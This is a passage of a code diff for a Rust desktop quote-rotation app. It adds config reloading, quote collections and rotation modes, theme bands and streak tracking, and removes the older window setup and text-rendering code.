+        self.interval_presets = config.interval_presets;
+        self.default_sub_text = config.default_sub_text;
+        self.idle_pause_secs = config.idle_pause_secs;
+        self.recent_emoji = config.recent_emoji;
+        self.deadlines = config.deadlines;
+        self.clock = config.clock;
+        self.control_panel_width = config.control_panel_width.clamp(
+            *CONTROL_PANEL_WIDTH_RANGE.start(),
+            *CONTROL_PANEL_WIDTH_RANGE.end(),
+        );
+        self.show_quote_tags = config.show_quote_tags;
+        self.hotspots = config.hotspots;
+        self.last_open_date = config.last_open_date;
+        self.streak = config.streak;
+        self.auto_backup = config.auto_backup;
+        self.last_auto_backup = config.last_auto_backup;
+        self.focus_dim = config.focus_dim;
+        self.focus_dim_level = config
+            .focus_dim_level
+            .clamp(*FOCUS_DIM_RANGE.start(), *FOCUS_DIM_RANGE.end());
+        self.clipboard_capture_minutes = config.clipboard_capture_minutes.max(1);
+        self.sound_on_rotate = config.sound_on_rotate;
+        self.sound_on_complete = config.sound_on_complete;
+        self.sound_volume = config.sound_volume.clamp(0.0, 1.0);
+        self.ui_scale = config
+            .ui_scale
+            .clamp(*UI_SCALE_RANGE.start(), *UI_SCALE_RANGE.end());
+        self.quote_max_chars = config
+            .quote_max_chars
+            .clamp(*QUOTE_MAX_CHARS_RANGE.start(), *QUOTE_MAX_CHARS_RANGE.end());
+        self.clean_quote_text = config.clean_quote_text;
+        self.quote_in_title = config.quote_in_title;
+        self.window_placement = config.window_placement;
+        self.home_position = config.home_position;
+        self.lock_aspect_ratio = config.lock_aspect_ratio;
+        self.onboarding_done = config.onboarding_done;
+        self.on_rotate_command = config.on_rotate_command;
+        self.on_session_complete_command = config.on_session_complete_command;
+        self.check_updates = config.check_updates;
+        self.last_update_check = config.last_update_check;
+        self.skipped_version = config.skipped_version;
+        self.reported_crash = config.reported_crash;
+        self.cursor_autohide = config.cursor_autohide;
+        self.cursor_hide_secs = config.cursor_hide_secs;
+        self.overlay_enabled = config.overlay_enabled;
+        self.overlay_port = config.overlay_port;
+        self.overlay_port_input = config.overlay_port;
+        self.section_open = config.section_open;
+        self.title_bar_items = normalize_title_bar_items(config.title_bar_items);
+        self.background = config.background;
+        self.low_power = config.low_power;
+        self.attention_cue = config.attention_cue;
+        self.nav_visibility = config.nav_visibility;
+        self.nav_position = config.nav_position;
+        self.preview_style = config.preview_style;
+        self.numeral_system = config.numeral_system;
+        self.roulette_theme = config.roulette_theme;
+        self.energy_matching = config.energy_matching;
+        self.energy_bands = config.energy_bands;
+        self.refresh_theme_band();
+        self.apply_system_theme();
+    }
 
-    buffer.draw(
-        font_system,
-        swash_cache,
-        text_color,
-        |x, y, _w, _h, drawn_color| {
-            // drawn_color is the blended color for this pixel
-            let px = x as usize;
-            let py = y as usize;
-            if px < width && py < height && x >= 0 && y >= 0 {
-                let alpha = drawn_color.a();
-                if alpha > 0 {
-                    let idx = py * width + px;
-                    // Alpha-blend the glyph pixel onto the transparent background
-                    pixels[idx] = Color32::from_rgba_premultiplied(
-                        drawn_color.r(),
-                        drawn_color.g(),
-                        drawn_color.b(),
-                        alpha,
-                    );
+    /// Run the button a toast was answered with
+    pub fn handle_toast_action(&mut self, action: ToastAction) {
+        match action {
+            ToastAction::KeepMine => {
+                self.pending_reload = None;
+                self.save();
+            }
+            ToastAction::LoadFile => {
+                if let Some(config) = self.pending_reload.take() {
+                    self.reload_config(config);
+                    self.settings_hash.set(self.config_hash());
+                    self.push_toast(ToastKind::Info, "Settings reloaded");
                 }
             }
-        },
-    );
+            ToastAction::AddClipboard => {
+                if let Some(text) = self.pending_clipboard.take() {
+                    self.add_quote(Quote::new(text, ""));
+                    self.push_toast(ToastKind::Success, "Added from the clipboard");
+                }
+            }
+            ToastAction::InboxClipboard => {
+                if let Some(text) = self.pending_clipboard.take() {
+                    self.queue_pending(vec![Quote::new(text, "")]);
+                }
+            }
+            ToastAction::IgnoreClipboard => self.pending_clipboard = None,
+            // The page itself is opened by `render_toasts`, which has the context
+            ToastAction::OpenRelease | ToastAction::DismissUpdate => self.available_update = None,
+            ToastAction::OverrideDaily => {
+                let step = self.pending_daily_step.take();
+                if let Some(idx) = step.and_then(|forward| self.step_in_rotation(forward)) {
+                    self.select_quote(idx);
+                }
+            }
+            ToastAction::KeepDaily => self.pending_daily_step = None,
+            ToastAction::UndoTags => self.undo_tags(),
+            ToastAction::UndoSubTexts => self.undo_sub_texts(),
+            ToastAction::OpenCrashFolder => crash_report::open_folder(),
+            ToastAction::UndoClear => self.undo_clear(),
+            ToastAction::CommitClear => self.commit_clear(),
+            ToastAction::SkipVersion => {
+                if let Some(release) = self.available_update.take() {
+                    self.skipped_version = Some(release.version);
+                    self.save();
+                }
+            }
+        }
+    }
 
-    // Create egui texture
-    let image = egui::ColorImage {
-        size: [width, height],
-        pixels,
-    };
+    /// All collections with the live quotes put back into the active one
+    pub fn collections_snapshot(&self) -> Vec<Collection> {
+        let mut collections = self.collections.clone();
+        if let Some(active) = collections.get_mut(self.active_collection) {
+            active.quotes = self.quotes.clone();
+        }
+        collections
+    }
 
-    let texture = ctx.load_texture(
-        format!("shaped_{}", cache_key),
-        image,
-        egui::TextureOptions::LINEAR,
-    );
+    /// Make another collection the active one
+    pub fn switch_collection(&mut self, index: usize) {
+        if index == self.active_collection || index >= self.collections.len() {
+            return;
+        }
+        self.commit_clear();
+        self.collections[self.active_collection].quotes = std::mem::take(&mut self.quotes);
+        self.quotes = std::mem::take(&mut self.collections[index].quotes);
+        self.active_collection = index;
+        self.current_quote_index = 0;
+        self.pinned_quote = None;
+        self.history.clear();
+        self.restart_rotation();
+        self.subtitle_editing = None;
+        self.note_editing = None;
+        self.editing_quote = None;
+        self.list_selection.clear();
+        self.confirm_delete_collection = false;
+        self.save();
+    }
 
-    let size = Vec2::new(width as f32, height as f32);
-    let tex_id = texture.id();
-    tex_cache.insert(cache_key, texture);
+    /// Create an empty collection and switch to it
+    pub fn add_collection(&mut self, name: String) {
+        self.collections.push(Collection::new(name, Vec::new()));
+        self.switch_collection(self.collections.len() - 1);
+    }
 
-    Some((tex_id, size))
-}
+    /// Rename the active collection
+    pub fn rename_collection(&mut self, name: String) {
+        self.collections[self.active_collection].name = name;
+        self.save();
+    }
 
-// Implement winit::application::ApplicationHandler for the new API
-use winit::application::ApplicationHandler;
-use winit::event_loop::ActiveEventLoop;
+    /// Delete the active collection, archiving its quotes; the last one cannot be removed
+    pub fn delete_collection(&mut self) {
+        if self.collections.len() <= 1 {
+            return;
+        }
+        self.commit_clear();
+        let quotes = std::mem::take(&mut self.quotes);
+        self.archive_quotes(quotes);
+        self.collections.remove(self.active_collection);
+        self.active_collection = self.active_collection.min(self.collections.len() - 1);
+        self.quotes = std::mem::take(&mut self.collections[self.active_collection].quotes);
+        self.current_quote_index = 0;
+        self.pinned_quote = None;
+        self.history.clear();
+        self.subtitle_editing = None;
+        self.note_editing = None;
+        self.editing_quote = None;
+        self.list_selection.clear();
+        self.confirm_delete_collection = false;
+        self.inbox_target = self.active_collection;
+        self.save();
+    }
 
-struct AppRunner {
-    window: Option<&'static Window>,
-    render_state: Option<WgpuRenderState<'static>>,
-    app_state: Option<AppState>,
-    egui_ctx: Option<Context>,
-    egui_state: Option<egui_winit::State>,
-    // cosmic-text for proper Bengali/Indic text shaping
-    font_system: Option<cosmic_text::FontSystem>,
-    swash_cache: Option<cosmic_text::SwashCache>,
-    shaped_text_textures: HashMap<u64, egui::TextureHandle>,
-    should_close: bool,
-}
+    /// Merge imported quotes into a collection (None creates "Imported")
+    pub fn import_quotes(&mut self, target: Option<usize>, mut quotes: Vec<Quote>) {
+        let count = quotes.len();
+        for quote in quotes.iter_mut() {
+            self.clean_quote(quote);
+            quote.source_url = quote.source_url().map(str::to_string);
+            if quote.sub_text.is_empty() {
+                quote.sub_text = self.default_sub_text.clone();
+            }
+        }
+        let target = match target {
+            Some(idx) if idx < self.collections.len() => idx,
+            _ => {
+                self.collections
+                    .push(Collection::new("Imported", Vec::new()));
+                self.collections.len() - 1
+            }
+        };
+        if target == self.active_collection {
+            self.quotes.extend(quotes);
+        } else {
+            self.collections[target].quotes.extend(quotes);
+        }
+        let name = self.collections[target].name.clone();
+        self.save();
+        self.push_toast(
+            ToastKind::Success,
+            format!("Imported {} quotes into \"{}\"", count, name),
+        );
+    }
 
-impl ApplicationHandler for AppRunner {
-    fn resumed(&mut self, event_loop: &ActiveEventLoop) {
-        if self.window.is_some() {
-            return; // Window already created
+    /// Get the current quote
+    pub fn current_quote(&self) -> Option<&Quote> {
+        self.quotes.get(self.current_quote_index)
+    }
+
+    /// Values for sub-text placeholders right now
+    pub fn template_context(&self) -> TemplateContext {
+        let now = chrono::Local::now();
+        TemplateContext {
+            // Minute granularity keeps the shaped-text cache from churning
+            time: now.format("%H:%M").to_string(),
+            date: now.format("%a %d %b %Y").to_string(),
+            quote_index: self.current_quote_index + 1,
+            session_minutes: self.session_started.elapsed().as_secs() / 60,
+            streak_days: self.streak,
         }
+    }
 
-        log_to_file("resumed() called - creating window");
+    /// Tag that restricts rotation under the active profile, if any quote carries it
+    fn rotation_tag(&self) -> Option<&str> {
+        let profile = self.profiles.get(self.active_profile?)?;
+        if profile.tag.is_empty() || !self.quotes.iter().any(|q| q.has_tag(&profile.tag)) {
+            None
+        } else {
+            Some(profile.tag.as_str())
+        }
+    }
 
-        // Create the window through the event loop
-        match event_loop.create_window(
-            Window::default_attributes()
-                .with_title("Daily Motivation")
-                .with_inner_size(LogicalSize::new(
-                    DEFAULT_WINDOW_SIZE.0 as f64,
-                    DEFAULT_WINDOW_SIZE.1 as f64,
-                ))
-                .with_min_inner_size(LogicalSize::new(
-                    MIN_WINDOW_SIZE.0 as f64,
-                    MIN_WINDOW_SIZE.1 as f64,
-                ))
-                .with_decorations(false)
-                .with_resizable(true)
-                .with_transparent(true)
-                .with_visible(false), // Start invisible to avoid white flash
-        ) {
-            Ok(window) => {
-                log_to_file("Window created");
-                let window = Box::leak(Box::new(window));
+    /// A new OS window title once the quote has rotated (or the option was
+    /// switched): the start of the main text, or APP_TITLE. Edits to the
+    /// current quote don't change it, so drafts never reach the taskbar.
+    pub fn pending_window_title(&mut self) -> Option<String> {
+        let shown = Some(self.current_quote_index)
+            .filter(|&i| self.quote_in_title && i < self.quotes.len());
+        if shown == self.titled_quote {
+            return None;
+        }
+        self.titled_quote = shown;
+        Some(match shown {
+            Some(i) => ellipsize(&self.quotes[i].main_text, TITLE_QUOTE_CHARS + 1).into_owned(),
+            None => APP_TITLE.to_string(),
+        })
+    }
 
-                // Set window topmost on Windows
-                #[cfg(windows)]
-                {
-                    use winit::raw_window_handle::{HasWindowHandle, RawWindowHandle};
-                    if let Ok(handle) = window.window_handle() {
-                        if let RawWindowHandle::Win32(win32_handle) = handle.as_raw() {
-                            let hwnd = HWND(win32_handle.hwnd.get() as *mut _);
-                            set_window_topmost(hwnd);
-                        }
+    /// Whether the quote at `index` takes part in rotation right now
+    pub fn quote_in_rotation(&self, index: usize) -> bool {
+        match (self.quotes.get(index), self.rotation_tag()) {
+            (Some(quote), Some(tag)) => quote.has_tag(tag),
+            (Some(_), None) => true,
+            (None, _) => false,
+        }
+    }
+
+    /// Rotate to next quote
+    pub fn next_quote(&mut self) {
+        if !self.quotes.is_empty() && self.pinned_quote.is_none() {
+            let from = self.current_quote_index;
+            match self.rotation_mode {
+                RotationMode::Sequential => {
+                    if let Some(idx) = self.step_in_rotation(true) {
+                        self.current_quote_index = idx;
+                    }
+                }
+                RotationMode::Random => {
+                    if let Some(idx) = self.random_quote_index() {
+                        self.current_quote_index = idx;
                     }
                 }
+                RotationMode::Daily => {
+                    self.ask_daily_override(true);
+                    return;
+                }
+            }
+            if self.current_quote_index != from {
+                self.push_history(from);
+                self.translation_swapped = !self.translation_swapped;
+                self.chime_rotation();
+                self.run_hook(HookEvent::Rotate);
+            }
+            self.restart_rotation();
+            self.save();
+        }
+    }
 
-                eprintln!("Window created successfully");
-                log_to_file("Window created successfully");
+    /// NEXT sent from the command line: like the button, except that in
+    /// daily mode it changes today's quote without asking
+    pub fn next_quote_from_cli(&mut self) {
+        if self.rotation_mode != RotationMode::Daily {
+            self.next_quote();
+        } else if let Some(idx) = self.step_in_rotation(true) {
+            self.select_quote(idx);
+        }
+    }
 
-                self.window = Some(window);
+    /// Rating-weighted pick among the quotes in rotation, never repeating the
+    /// current one while there is an alternative; with energy matching on,
+    /// the time band scales each weight too
+    fn random_quote_index(&mut self) -> Option<usize> {
+        let candidates: Vec<usize> = (0..self.quotes.len())
+            .filter(|&i| self.quote_in_rotation(i))
+            .filter(|&i| i != self.current_quote_index)
+            .collect();
+        let now = chrono::Local::now();
+        let minute = chrono::Timelike::hour(&now) * 60 + chrono::Timelike::minute(&now);
+        let favored = self.favored_energy(minute);
+        let weights: Vec<u32> = candidates
+            .iter()
+            .map(|&i| {
+                let quote = &self.quotes[i];
+                match favored {
+                    Some(favored) => quote.weight() * quote.energy.weight_halves(favored),
+                    None => quote.weight(),
+                }
+            })
+            .collect();
+        weighted_pick(&weights, &mut self.rng).map(|pick| candidates[pick])
+    }
 
-                log_to_file("Creating render state and egui components");
-
-                match pollster::block_on(WgpuRenderState::new(window)) {
-                    Ok(render_state) => {
-                        let app_state = AppState::default();
-                        let egui_ctx = Context::default();
-                        let mut style = egui::Style::default();
-                        style.visuals = egui::Visuals::dark();
-                        style.visuals.window_fill = CANVAS_BG;
-                        style.visuals.panel_fill = CONTROL_PANEL_BG;
-
-                        // Add global hover effects for buttons and text visibility (Year 50k aesthetic)
-                        let mut visuals = style.visuals.clone();
-                        visuals.widgets.hovered.bg_fill = Color32::from_rgb(80, 80, 90);
-                        visuals.widgets.hovered.bg_stroke =
-                            egui::Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.5));
-                        visuals.widgets.active.bg_fill = Color32::from_rgb(100, 100, 110);
-                        visuals.widgets.noninteractive.fg_stroke = egui::Stroke::new(
-                            1.0,
-                            Color32::from_rgba_unmultiplied(190, 230, 255, 255),
-                        );
-                        visuals.widgets.inactive.fg_stroke = egui::Stroke::new(1.0, Color32::WHITE);
-                        visuals.widgets.active.fg_stroke = egui::Stroke::new(1.0, NEON_CYAN);
-                        visuals.widgets.hovered.fg_stroke = egui::Stroke::new(1.0, NEON_CYAN);
-                        style.visuals = visuals;
+    /// Energy level the active band favors at `minute` past midnight: None
+    /// with matching off, Some(None) between bands (both Calm and Intense
+    /// then count 0.5x)
+    pub fn favored_energy(&self, minute: u32) -> Option<Option<EnergyLevel>> {
+        if !self.energy_matching {
+            return None;
+        }
+        Some(
+            self.energy_bands
+                .iter()
+                .find(|band| band.contains(minute))
+                .map(|band| band.level),
+        )
+    }
 
-                        egui_ctx.set_style(style);
+    /// 🎲: jump to a uniformly random other quote (ratings and filters don't
+    /// apply) and, with `roulette_theme`, a random built-in gradient and angle,
+    /// unless a profile's or band's theme is showing: that one stays.
+    /// Uses the session RNG, so --seed runs repeat.
+    pub fn surprise_me(&mut self) {
+        if self.pinned_quote.is_some() || self.quotes.is_empty() {
+            return;
+        }
+        let others = self.quotes.len() - 1;
+        if others > 0 {
+            // Draw from the other quotes and skip over the current one
+            let mut index = rand::Rng::gen_range(&mut self.rng, 0..others);
+            if index >= self.current_quote_index {
+                index += 1;
+            }
+            self.select_quote(index);
+        }
+        if self.roulette_rolls_theme() {
+            let pick = rand::Rng::gen_range(&mut self.rng, 0..GRADIENT_PRESETS.len());
+            let (_, colors, primary, secondary) = GRADIENT_PRESETS[pick];
+            self.theme.mode = ThemeMode::Gradient;
+            self.theme.gradient_colors = colors.to_vec();
+            self.theme.accent_primary = primary;
+            self.theme.accent_secondary = secondary;
+            self.theme.gradient_angle = rand::Rng::gen_range(&mut self.rng, 0..24) * 15;
+            self.save();
+        }
+    }
 
-                        let egui_state = egui_winit::State::new(
-                            egui_ctx.clone(),
-                            egui::ViewportId::ROOT,
-                            window,
-                            None,
-                            None,
-                            None,
-                        );
+    /// Whether 🎲 changes the theme too: a profile or band override on
+    /// screen is left as it is
+    pub fn roulette_rolls_theme(&self) -> bool {
+        self.roulette_theme && self.base_theme.is_none()
+    }
 
-                        self.render_state = Some(render_state);
-                        self.app_state = Some(app_state);
-                        self.egui_ctx = Some(egui_ctx.clone());
-                        self.egui_state = Some(egui_state);
+    /// Next (or previous) quote in rotation after the current one, in list order
+    fn step_in_rotation(&self, forward: bool) -> Option<usize> {
+        let len = self.quotes.len();
+        let from = self.current_quote_index;
+        (1..=len)
+            .map(|step| {
+                if forward {
+                    (from + step) % len
+                } else {
+                    (from + len - step) % len
+                }
+            })
+            .find(|&idx| self.quote_in_rotation(idx))
+    }
 
-                        // Load Bengali fonts for Bangla text support
-                        setup_fonts(&egui_ctx);
+    /// Daily mode: offer to replace today's quote, stepping `forward` (NEXT)
+    /// or back (PREV) once confirmed
+    fn ask_daily_override(&mut self, forward: bool) {
+        self.toasts
+            .retain(|t| !t.actions.contains(&ToastAction::OverrideDaily));
+        self.toasts.push(
+            Toast::new(ToastKind::Info, "Override today's quote?")
+                .with_actions(vec![ToastAction::OverrideDaily, ToastAction::KeepDaily]),
+        );
+        self.pending_daily_step = Some(forward);
+    }
 
-                        // Show window now that rendering is ready (prevents white flash)
-                        window.set_visible(true);
+    /// Daily mode: choose today's quote once the local day has rolled over
+    /// (or its quote is gone) and show it (cheap; called every frame)
+    pub fn update_daily_quote(&mut self) {
+        if self.rotation_mode != RotationMode::Daily
+            || self.quotes.is_empty()
+            || self.pinned_quote.is_some()
+        {
+            return;
+        }
+        let today = chrono::Local::now().date_naive();
+        if self
+            .daily_quote
+            .is_some_and(|d| d.date == today && d.index < self.quotes.len())
+        {
+            return;
+        }
+        let candidates: Vec<usize> = (0..self.quotes.len())
+            .filter(|&i| self.quote_in_rotation(i))
+            .collect();
+        let Some(&index) = candidates.get(daily_pick(today, candidates.len())) else {
+            return;
+        };
+        self.daily_quote = Some(DailyQuote { date: today, index });
+        if index != self.current_quote_index {
+            self.push_history(self.current_quote_index);
+            self.current_quote_index = index;
+        }
+        self.save();
+    }
 
-                        log_to_file("Render state stored in AppRunner");
-                    }
-                    Err(e) => {
-                        eprintln!("Warning: Render state initialization failed: {}", e);
-                        log_to_file(&format!("Render state initialization failed: {}", e));
-                        event_loop.exit();
-                    }
-                }
+    /// Go back to the previously shown quote; without history, step to index - 1
+    pub fn prev_quote(&mut self) {
+        if self.pinned_quote.is_some() {
+            return;
+        }
+        if self.rotation_mode == RotationMode::Daily {
+            if !self.quotes.is_empty() {
+                self.ask_daily_override(false);
             }
-            Err(e) => {
-                eprintln!("Failed to create window: {}", e);
-                log_to_file(&format!("Failed to create window: {}", e));
-                event_loop.exit();
+            return;
+        }
+        while let Some(idx) = self.history.pop() {
+            if idx < self.quotes.len() && idx != self.current_quote_index {
+                self.current_quote_index = idx;
+                self.restart_rotation();
+                self.save();
+                return;
             }
         }
+        if let Some(idx) = self.step_in_rotation(false) {
+            self.current_quote_index = idx;
+            self.restart_rotation();
+            self.save();
+        }
     }
 
-    fn window_event(
-        &mut self,
-        event_loop: &ActiveEventLoop,
-        _window_id: winit::window::WindowId,
-        event: WindowEvent,
-    ) {
-        if let Some(window) = self.window {
-            // Forward ALL events to egui so it can respond to mouse/keyboard immediately
-            if let Some(egui_state) = self.egui_state.as_mut() {
-                let _ = egui_state.on_window_event(window, &event);
+    /// Show a specific quote (e.g. picked from the list), remembering the current one
+    pub fn select_quote(&mut self, index: usize) {
+        if self.pinned_quote.is_some() {
+            return;
+        }
+        if index < self.quotes.len() && index != self.current_quote_index {
+            self.push_history(self.current_quote_index);
+            self.current_quote_index = index;
+            // Picking a quote by hand in daily mode makes it today's
+            if self.rotation_mode == RotationMode::Daily {
+                let date = chrono::Local::now().date_naive();
+                self.daily_quote = Some(DailyQuote { date, index });
             }
+        }
+        self.restart_rotation();
+        self.save();
+    }
 
-            match event {
-                WindowEvent::CloseRequested => {
-                    event_loop.exit();
-                }
-                WindowEvent::Resized(size) => {
-                    if let Some(render_state) = self.render_state.as_mut() {
-                        render_state.resize(size);
-                    }
-                }
-                WindowEvent::RedrawRequested => {
-                    self.render(&window);
-                }
-                _ => {}
+    /// Pin a quote on screen, showing it right away, or release it if it's
+    /// already pinned; rotation then carries on from that quote
+    pub fn toggle_pin(&mut self, index: usize) {
+        if self.pinned_quote == Some(index) {
+            self.pinned_quote = None;
+        } else if index < self.quotes.len() {
+            if index != self.current_quote_index {
+                self.push_history(self.current_quote_index);
+                self.current_quote_index = index;
             }
+            self.pinned_quote = Some(index);
         }
+        self.save();
+    }
 
-        // Update interaction time on user input
-        if let Some(app_state) = self.app_state.as_mut() {
-            match event {
-                WindowEvent::CursorMoved { .. }
-                | WindowEvent::MouseInput { .. }
-                | WindowEvent::KeyboardInput { .. } => {
-                    app_state.last_interaction = Instant::now();
+    fn push_history(&mut self, index: usize) {
+        if self.history.last() != Some(&index) {
+            self.history.push(index);
+        }
+        if self.history.len() > HISTORY_LIMIT {
+            self.history.remove(0);
+        }
+    }
 
-                    // Stop all animations on Space key
-                    if let WindowEvent::KeyboardInput { event, .. } = event {
-                        if event.state == winit::event::ElementState::Pressed {
-                            if let winit::keyboard::PhysicalKey::Code(
-                                winit::keyboard::KeyCode::Space,
-                            ) = event.physical_key
-                            {
-                                app_state.active_animation = AppAnimation::None;
-                                // Reset common effects
-                                if let Some(window) = self.window {
-                                    if let Ok(handle) = window.window_handle() {
-                                        if let winit::raw_window_handle::RawWindowHandle::Win32(
-                                            win32,
-                                        ) = handle.as_raw()
-                                        {
-                                            let hwnd = HWND(win32.hwnd.get() as _);
-                                            unsafe {
-                                                let _ = SetLayeredWindowAttributes(
-                                                    hwnd, None, 255, LWA_ALPHA,
-                                                );
-                                            }
-                                        }
-                                    }
-                                }
-                            }
-                        }
-                    }
+    /// Whether PREV has somewhere to go back to
+    pub fn can_go_back(&self) -> bool {
+        !self.history.is_empty()
+    }
 
-                    // Request repaint to ensure UI updates immediately
-                    self.window.as_ref().map(|w| w.request_redraw());
-                }
-                _ => {}
-            }
+    /// Profile that should be active at `now` given the manual override
+    pub fn resolve_profile(&self, now: chrono::NaiveDateTime) -> Option<usize> {
+        match self.profile_selection {
+            ProfileSelection::Automatic => scheduled_profile(&self.profiles, now),
+            ProfileSelection::Disabled => None,
+            ProfileSelection::Fixed(idx) => (idx < self.profiles.len()).then_some(idx),
         }
     }
 
-    fn about_to_wait(&mut self, event_loop: &ActiveEventLoop) {
-        if self.should_close {
-            event_loop.exit();
+    /// Follow the time-of-day theme bands (cheap; called every frame, and
+    /// does the work once a minute)
+    pub fn update_theme_band(&mut self) {
+        let now = chrono::Local::now();
+        let minute = chrono::Timelike::hour(&now) * 60 + chrono::Timelike::minute(&now);
+        if self.theme_band_minute == Some(minute) {
             return;
         }
+        self.theme_band_minute = Some(minute);
+        let band = self.resolve_theme_band(minute);
+        if band != self.active_theme_band {
+            self.active_theme_band = band;
+            self.refresh_profile();
+        }
+    }
 
-        // Render if we have a window and render state
-        if let Some(window) = self.window {
-            self.render(&window);
+    /// Re-apply the theme band after the bands or the switch changed
+    pub fn refresh_theme_band(&mut self) {
+        let now = chrono::Local::now();
+        let minute = chrono::Timelike::hour(&now) * 60 + chrono::Timelike::minute(&now);
+        self.theme_band_minute = Some(minute);
+        self.active_theme_band = self.resolve_theme_band(minute);
+        self.refresh_profile();
+    }
+
+    fn resolve_theme_band(&self, minute: u32) -> Option<usize> {
+        if self.theme_automation {
+            active_theme_band(&self.theme_bands, minute)
+        } else {
+            None
         }
+    }
 
-        if self.should_close {
-            event_loop.exit();
-            return;
+    /// The band whose theme is on screen, if any; a profile's own theme
+    /// takes precedence over it
+    pub fn theme_band_in_effect(&self) -> Option<usize> {
+        let profile_theme = self
+            .active_profile
+            .and_then(|idx| self.profiles.get(idx))
+            .is_some_and(|profile| profile.theme.is_some());
+        if !self.theme_automation || profile_theme {
+            return None;
         }
+        self.active_theme_band
+            .filter(|&idx| self.theme_bands.get(idx).is_some_and(|b| b.theme.is_some()))
+    }
 
-        // Smart sleep: use shorter delay only when egui needs repainting,
-        // otherwise sleep longer to save CPU and prevent system lag
-        let sleep_ms = if let Some(ctx) = self.egui_ctx.as_ref() {
-            if ctx.has_requested_repaint() {
-                16 // Active interaction: ~60 FPS
-            } else {
-                100 // Idle: ~10 FPS (plenty for quote rotation)
-            }
-        } else {
-            16
-        };
-        thread::sleep(Duration::from_millis(sleep_ms));
+    /// The band in effect, if the theme was edited away from its own
+    pub fn edited_theme_band(&self) -> Option<usize> {
+        self.theme_band_in_effect()
+            .filter(|&idx| self.theme_bands[idx].theme.as_ref() != Some(&self.theme))
     }
-}
 
-impl AppRunner {
-    fn render(&mut self, window: &Window) {
-        // Take cosmic-text state out of self before entering the closure
-        let mut font_system = self.font_system.take();
-        let mut swash_cache = self.swash_cache.take();
-        let mut tex_cache = std::mem::take(&mut self.shaped_text_textures);
+    /// Keep the edited theme as the active band's from now on
+    pub fn save_theme_for_band(&mut self) {
+        if let Some(idx) = self.theme_band_in_effect() {
+            self.theme_bands[idx].theme = Some(self.theme.clone());
+            // The band's now, so not an edit for the global theme
+            self.override_theme = Some(self.theme.clone());
+            self.save();
+        }
+    }
 
-        let (app_state, egui_ctx, egui_state, render_state) = match (
-            self.app_state.as_mut(),
-            self.egui_ctx.as_mut(),
-            self.egui_state.as_mut(),
-            self.render_state.as_mut(),
-        ) {
-            (Some(state), Some(ctx), Some(est), Some(rst)) => (state, ctx, est, rst),
-            _ => {
-                // Return states before returning
-                self.font_system = font_system;
-                self.swash_cache = swash_cache;
-                self.shaped_text_textures = tex_cache;
-                return;
-            }
+    /// Turn the time-of-day themes off, keeping the edited theme as the
+    /// global one
+    pub fn stop_theme_automation(&mut self) {
+        let edited = self.theme.clone();
+        self.theme_automation = false;
+        self.refresh_theme_band();
+        self.theme = edited;
+        self.save();
+    }
+
+    /// Switch to the profile that should be active now (cheap; called every frame)
+    pub fn update_active_profile(&mut self) {
+        let wanted = self.resolve_profile(chrono::Local::now().naive_local());
+        if wanted != self.active_profile {
+            self.apply_profile(wanted);
+        }
+    }
+
+    /// Count today toward the open streak (cheap; called every frame so a
+    /// window left open past midnight still counts the new day). Every
+    /// seventh day plays the attention cue as a small celebration.
+    pub fn update_streak(&mut self) {
+        let today = chrono::Local::now().date_naive();
+        if self.last_open_date == Some(today) {
+            return;
+        }
+        self.streak = match self.last_open_date {
+            Some(last) if last.succ_opt() == Some(today) => self.streak.saturating_add(1),
+            _ => 1,
         };
+        self.last_open_date = Some(today);
+        self.save();
+        if self.streak.is_multiple_of(7) {
+            self.cue_attention();
+        }
+    }
 
-        // (Animation Engine moved below)
+    /// Step the interface scale by `delta`, staying inside UI_SCALE_RANGE
+    pub fn step_ui_scale(&mut self, delta: f32) {
+        let scale = ((self.ui_scale + delta) * 10.0).round() / 10.0;
+        let scale = scale.clamp(*UI_SCALE_RANGE.start(), *UI_SCALE_RANGE.end());
+        if scale != self.ui_scale {
+            self.ui_scale = scale;
+            self.save();
+        }
+    }
 
-        let mut raw_input = egui_state.take_egui_input(window);
-        let scale = window.scale_factor() as f32;
-        let content_w = window.inner_size().width as f32 / scale;
-        let content_h = window.inner_size().height as f32 / scale;
-        let content_rect = Rect::from_min_max(
-            Pos2::new(0.0, TITLE_BAR_HEIGHT),
-            Pos2::new(content_w, content_h),
-        );
-        transform_raw_input_for_rotation_scale(
-            &mut raw_input,
-            content_rect,
-            app_state.current_rotation_angle,
-            app_state.current_scale,
-        );
-        let full_output = egui_ctx.run(raw_input, |ctx| {
-            // Track activity for auto-hide
-            if ctx.is_using_pointer() || ctx.input(|i| i.pointer.any_down() || !i.events.is_empty())
-            {
-                app_state.last_interaction = Instant::now();
-            }
+    /// Queue `sound` at the current volume, starting the audio thread on
+    /// first use
+    pub fn play_sound(&mut self, sound: Sound) {
+        if self.audio.is_none() {
+            self.audio = AudioPlayer::start();
+        }
+        if let Some(audio) = &self.audio {
+            audio.play(sound, self.sound_volume);
+        }
+    }
 
-            let mut is_resizing = false;
-            // Handle active manual resizing
-            if let Some((dir, start_cx, start_cy, start_wx, start_wy, start_w, start_h)) =
-                app_state.manual_resize_start
-            {
-                is_resizing = true;
-                if ctx.input(|i| i.pointer.primary_down()) {
-                    if let Some((cx, cy)) = get_global_cursor() {
-                        let dx = cx - start_cx;
-                        let dy = cy - start_cy;
-
-                        let mut new_w = start_w as i32;
-                        let mut new_h = start_h as i32;
-                        let mut new_x = start_wx;
-                        let mut new_y = start_wy;
-
-                        use winit::window::ResizeDirection;
-                        match dir {
-                            ResizeDirection::East => new_w += dx,
-                            ResizeDirection::West => {
-                                new_w -= dx;
-                                new_x += dx;
-                            }
-                            ResizeDirection::South => new_h += dy,
-                            ResizeDirection::North => {
-                                new_h -= dy;
-                                new_y += dy;
-                            }
-                            ResizeDirection::SouthEast => {
-                                new_w += dx;
-                                new_h += dy;
-                            }
-                            ResizeDirection::SouthWest => {
-                                new_w -= dx;
-                                new_x += dx;
-                                new_h += dy;
-                            }
-                            ResizeDirection::NorthEast => {
-                                new_w += dx;
-                                new_h -= dy;
-                                new_y += dy;
-                            }
-                            ResizeDirection::NorthWest => {
-                                new_w -= dx;
-                                new_x += dx;
-                                new_h -= dy;
-                                new_y += dy;
-                            }
-                        }
+    /// Rotation chime, if enabled and the last one has had time to ring
+    fn chime_rotation(&mut self) {
+        if !self.sound_on_rotate
+            || self
+                .last_chime
+                .is_some_and(|at| at.elapsed() < CHIME_DEBOUNCE)
+        {
+            return;
+        }
+        self.last_chime = Some(Instant::now());
+        self.play_sound(Sound::Rotate);
+    }
 
-                        let new_w = new_w.max(0) as u32;
-                        let new_h = new_h.max(0) as u32;
+    /// Play the end sound and run the session hook when a deadline passes
